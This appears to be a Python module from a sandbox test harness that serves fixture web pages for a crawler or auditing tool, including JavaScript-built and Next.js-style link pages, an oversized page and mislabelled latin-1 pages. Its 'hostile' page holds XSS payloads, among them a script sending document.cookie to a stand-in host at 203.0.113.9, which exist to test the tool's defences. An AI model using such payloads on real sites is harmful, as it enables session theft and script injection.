"""Link-in-bio pages, the app-like Bluesky profile page, media files, and the hostile/legacy pages.

``/links/talia/`` has no links in its HTML: a script fetches ``links.json`` and
builds them. ``/lt/talia`` is Next.js-shaped, its links in ``__NEXT_DATA__``
like the linktree sample.
"""

from __future__ import annotations

import json
from html import escape
from typing import Any

from selfaudit.sandbox.wire import TINY_PNG, Ctx, Request, Response, html_response, json_response

__all__ = ["route", "bio_links", "HOSTILE_PAGES", "LEGACY_PAGES", "HUGE_BYTES"]

HOSTILE_PAGES = ("/blog/hostile/", "/blog/huge/")
LEGACY_PAGES = ("/blog/legacy/", "/blog/legacy-mislabelled/")
HUGE_BYTES = 5 * 1024 * 1024
WORK_EMAIL = "talia.moreno-haddad@un.org"


def bio_links(ctx: Ctx) -> list[tuple[str, str]]:
    """``(title, url)`` of the link-in-bio pages: her profiles, sites and the partisan page."""
    return [("Mastodon", f"{ctx.base}/@talia"), ("Bluesky", f"{ctx.base}/profile/talia.test"),
            ("My blog", f"{ctx.base}/blog/"), ("Why I campaign for Aurora", f"{ctx.base}/blog/why-aurora/"),
            ("Coaching", f"{ctx.base}/blog/coaching/")]


def _js_page(ctx: Ctx) -> Response:
    html = ("<!doctype html><html><head><meta charset=utf-8><title>Talia | links</title></head><body>"
            '<main id="app"><p class="loading">Loading…</p></main><script>'
            "fetch('links.json').then(r => r.json()).then(data => {"
            "const app = document.getElementById('app'); app.innerHTML = '';"
            "const h = document.createElement('h1'); h.textContent = data.title; app.appendChild(h);"
            "for (const l of data.links) { const a = document.createElement('a'); a.href = l.url;"
            " a.textContent = l.title; a.className = 'bio-link'; app.appendChild(a); }"
            "const done = document.createElement('span'); done.id = 'done'; app.appendChild(done); });"
            "</script></body></html>")
    return html_response(html)


def _next_data(ctx: Ctx) -> dict[str, Any]:
    links = [{"id": str(90000000 + n), "title": title, "context": {}, "animation": None, "thumbnail": None,
              "url": url, "amazonAffiliate": None, "type": "CLASSIC",
              "rules": {"gate": {"activeOrder": None, "age": None}}, "position": n, "locked": None}
             for n, (title, url) in enumerate(bio_links(ctx), start=1)]
    links.insert(0, {"id": "90000000", "title": "Find me", "context": {}, "animation": None, "thumbnail": None,
                     "url": "", "amazonAffiliate": None, "type": "HEADER",
                     "rules": {"gate": {"activeOrder": None, "age": None}}, "position": 0, "locked": None})
    social = [{"type": "EMAIL_ADDRESS", "url": f"mailto:{WORK_EMAIL}"},
              {"type": "MASTODON", "url": f"{ctx.base}/@talia"}]
    account = {"id": 4242, "uuid": "0b5c-sandbox", "username": "taliamh", "isActive": True,
               "description": "UN programme officer. Views my own.", "socialLinks": social, "links": links}
    props = {"account": account, "username": "taliamh", "description": account["description"],
             "profilePictureUrl": f"{ctx.base}/img/avatar.png", "links": links, "socialLinks": social,
             "pageTitle": "taliamh", "metaTitle": "taliamh | Linktree", "metaDescription": "Talia's links",
             "theme": {}, "isOwner": False, "isProfileVerified": False, "hasSensitiveContent": False,
             "contentGating": "NONE", "hasConsentedToView": True, "integrations": [], "leapLink": None,
             "isLogoVisible": True, "mobileDetected": False, "environment": {}, "stage": "production"}
    return {"props": {"pageProps": props, "__N_SSP": True}, "page": "/[profile]",
            "query": {"profile": "taliamh"}, "buildId": "sandbox-build", "isFallback": False, "gssp": True,
            "customServer": True, "runtimeConfig": {}}


def _next_page(ctx: Ctx) -> Response:
    data = json.dumps(_next_data(ctx), ensure_ascii=False).replace("</", "<\\/")
    html = ("<!doctype html><html><head><meta charset=utf-8><title>taliamh | Linktree</title></head><body>"
            '<div id="__next"><div class="loading"></div></div>'
            f'<script id="__NEXT_DATA__" type="application/json">{data}</script></body></html>')
    return html_response(html)


def _bsky_profile(ctx: Ctx, handle: str) -> Response:
    return html_response(f"<!doctype html><html><head><meta charset=utf-8><title>@{escape(handle)} on Bluesky"
                         f'</title><link rel="alternate" href="at://{escape(handle)}"></head><body>'
                         f"<noscript>This is a heavily interactive web application.</noscript></body></html>")


def _hostile(ctx: Ctx) -> Response:
    html = ("<!doctype html><html><head><meta charset=utf-8><title>Hostile</title>"
            "<script>document.title='pwned';fetch('http://203.0.113.9/steal?c='+document.cookie)</script>"
            "</head><body><h1>Totally normal page</h1>"
            '<img src="x" onerror="alert(document.domain)">'
            '<a href="javascript:alert(1)">click me</a> <a href="JaVaScRiPt:alert(2)">me too</a>'
            '<iframe src="javascript:alert(3)"></iframe><svg onload="alert(4)"></svg>'
            '<a href="data:text/html,<script>alert(5)</script>">data link</a>'
            f'<a href="{ctx.base}/blog/">back to the blog</a></body></html>')
    return html_response(html)


def _huge(ctx: Ctx) -> Response:
    para = "<p>" + "All work and no play makes a very long page. " * 20 + "</p>\n"
    head = "<!doctype html><html><head><meta charset=utf-8><title>Huge</title></head><body>"
    body = (head + para * (HUGE_BYTES // len(para) + 1) + "</body></html>").encode()
    return Response(200, body, [("Content-Type", "text/html; charset=utf-8")])


def _legacy(ctx: Ctx, *, mislabelled: bool) -> Response:
    text = ("<html><head><title>Été à Montréal</title></head><body><h1>Café, crème brûlée et déjà-vu</h1>"
            "<p>Un été très réussi : randonnée, pâtisseries et une soirée à l'opéra. Señor García nous a "
            "rejoints à Málaga.</p></body></html>")
    ctype = "text/html; charset=utf-8" if mislabelled else "text/html"
    return Response(200, text.encode("latin-1"), [("Content-Type", ctype)])


def route(ctx: Ctx, req: Request, *, hostile: bool, legacy: bool) -> Response | None:
    """Link pages, media, and (when the fault is on) the hostile and latin-1 pages."""
    path = req.path
    if path in ("/links/talia/", "/links/talia"):
        return _js_page(ctx)
    if path == "/links/talia/links.json":
        return json_response({"title": "Talia Moreno-Haddad",
                              "links": [{"title": t, "url": u} for t, u in bio_links(ctx)]})
    if path in ("/lt/talia", "/lt/talia/"):
        return _next_page(ctx)
    if path.startswith("/profile/"):
        return _bsky_profile(ctx, path.split("/")[2])
    if path.startswith(("/system/", "/img/", "/headers/", "/blog/media/")):
        return Response(200, TINY_PNG, [("Content-Type", "image/png"), ("Cache-Control", "max-age=31536000")])
    if hostile and path == HOSTILE_PAGES[0]:
        return _hostile(ctx)
    if hostile and path == HOSTILE_PAGES[1]:
        return _huge(ctx)
    if legacy and path in LEGACY_PAGES:
        return _legacy(ctx, mislabelled=path == LEGACY_PAGES[1])
    return None
